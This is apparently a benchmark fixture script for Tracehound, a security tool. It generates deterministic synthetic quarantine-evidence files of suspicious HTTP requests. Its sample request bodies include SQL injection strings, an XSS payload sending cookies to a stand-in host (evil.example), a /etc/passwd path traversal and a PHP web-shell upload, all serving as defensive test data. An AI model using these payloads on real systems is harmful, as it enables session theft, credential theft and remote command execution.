/**
 * A folder of Tracehound evidence envelopes, the same bytes on every run and machine,
 * built with the library's own writer (dist/evidence/envelope.js buildEnvelope: canonical
 * JSON, gzip level 6, the THCS header) and stored as Tracehound stores them, under
 * `<category>:<sha256 of the payload>.thcs`. Payloads are what Tracehound quarantines:
 * a request (method, path, query, headers, a body excerpt), who sent it and why it was
 * held, a few hundred bytes each.
 *
 * Used by bench/workloads/6-evidence.mjs; `node bench/scripts/synth-envelopes.mjs DIR [N]`
 * writes one by hand (after npm run build).
 */
import { existsSync, mkdirSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';

const DIST = join(dirname(fileURLToPath(import.meta.url)), '..', '..', 'dist');

/** mulberry32 (as bench/lib/generate.mjs): a tiny seeded PRNG. */
function prng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const CATEGORIES = ['injection', 'injection', 'injection', 'ddos', 'flood', 'spam', 'malware', 'unknown'];
const PATHS = ['/api/login', '/api/search', '/wp-admin/admin-ajax.php', '/graphql', '/api/v2/users', '/upload', '/.env', '/cgi-bin/status', '/api/orders'];
const AGENTS = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36', 'curl/8.5.0', 'python-requests/2.31.0', 'sqlmap/1.8#stable (https://sqlmap.org)', 'Go-http-client/1.1', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)'];
const BODIES = {
  injection: ["username=admin' OR '1'='1' -- &password=x", '{"query":"{ __schema { types { name fields { name } } } }"}', "q=1 UNION SELECT username, password FROM users--", 'name=<script>fetch("https://evil.example/c?"+document.cookie)</script>', 'file=../../../../etc/passwd'],
  ddos: ['', 'a=1'],
  flood: ['x'.repeat(64), 'ping'],
  spam: ['comment=Buy cheap watches at https://spam.example/deal now!!!', 'message=Congratulations, you won. Claim at https://spam.example/win'],
  malware: ['------WebKitFormBoundary\r\nContent-Disposition: form-data; name="file"; filename="shell.php"\r\n\r\n<?php system($_GET["c"]); ?>', 'payload=TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAA'],
  unknown: ['\u0000\u0001binary?', '{}'],
};

function ip(rand) {
  return `${Math.floor(rand() * 223) + 1}.${Math.floor(rand() * 256)}.${Math.floor(rand() * 256)}.${Math.floor(rand() * 254) + 1}`;
}

function payloadFor(i, category, rand) {
  const pick = (xs) => xs[Math.floor(rand() * xs.length)];
  const t = Date.UTC(2026, 10, 1) + i * 8_641;
  return {
    id: `ev-${i.toString(36).padStart(6, '0')}`,
    category,
    receivedAt: new Date(t).toISOString(),
    source: { ip: ip(rand), port: 1024 + Math.floor(rand() * 60000), asn: 10000 + Math.floor(rand() * 60000), country: pick(['US', 'DE', 'CN', 'RU', 'BR', 'NL', 'IN']) },
    request: {
      method: pick(['GET', 'POST', 'POST', 'PUT']),
      path: pick(PATHS),
      query: rand() < 0.5 ? '' : `id=${Math.floor(rand() * 1e6)}&sort=desc`,
      headers: { host: 'shop.example.com', 'user-agent': pick(AGENTS), accept: '*/*', 'content-type': 'application/x-www-form-urlencoded' },
      body: pick(BODIES[category]),
    },
    detection: { rule: `${category}-${Math.floor(rand() * 40)}`, score: Math.round(rand() * 1000) / 1000, action: 'quarantine' },
  };
}

/** Writes `count` envelopes into `dir` (which must not exist yet). */
export async function writeEnvelopes(dir, count = 10_000, seed = 6) {
  const { buildEnvelope } = await import(pathToFileURL(join(DIST, 'evidence', 'envelope.js')).href);
  const rand = prng(seed);
  mkdirSync(dir, { recursive: true });
  let bytes = 0;
  let payloadBytes = 0;
  for (let i = 0; i < count; i++) {
    const category = CATEGORIES[Math.floor(rand() * CATEGORIES.length)];
    const built = buildEnvelope(payloadFor(i, category, rand), { category });
    writeFileSync(join(dir, built.fileName), built.bytes);
    bytes += built.bytes.length;
    payloadBytes += built.payload.length;
  }
  return { envelopes: count, bytes, payloadBytes };
}

/** The folder at `dir`, built once (under a temporary name, renamed when complete). */
export async function ensureEnvelopes(dir, count = 10_000, seed = 6) {
  if (existsSync(dir)) return dir;
  const tmp = `${dir}.partial`;
  rmSync(tmp, { recursive: true, force: true });
  await writeEnvelopes(tmp, count, seed);
  renameSync(tmp, dir);
  return dir;
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  const [dir, n] = process.argv.slice(2);
  if (dir === undefined) {
    process.stderr.write('usage: node bench/scripts/synth-envelopes.mjs DIR [COUNT]\n');
    process.exit(2);
  }
  process.stdout.write(JSON.stringify(await writeEnvelopes(dir, n === undefined ? 10_000 : Number(n))) + '\n');
}
